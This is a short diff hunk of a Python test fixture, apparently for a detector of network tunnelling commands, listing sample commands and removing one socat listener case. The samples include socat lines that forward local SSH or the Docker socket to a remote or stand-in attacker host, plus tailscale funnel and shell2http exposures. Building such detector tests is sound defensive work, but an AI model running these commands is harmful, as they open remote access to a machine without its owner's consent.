@@ -77,7 +77,6 @@ TUNNELS: dict[str, Case] = {
     "tailscale funnel --bg": ({}, "sudo tailscale funnel --bg 3000"),
     "socat to a remote listener": ({}, "socat TCP:198.51.100.9:4444 TCP:localhost:22"),
     "socat, options and a unix socket": ({}, "socat -d -d tcp4:evil.example:9000 UNIX-CONNECT:/var/run/docker.sock"),
-    "socat listening for anyone": ({}, "socat TCP-LISTEN:2222,fork,reuseaddr TCP:127.0.0.1:22"),
     "shell2http": ({}, "shell2http -port 8080 /date date"),
 }
 TUNNELS_NEAR: dict[str, Case] = {
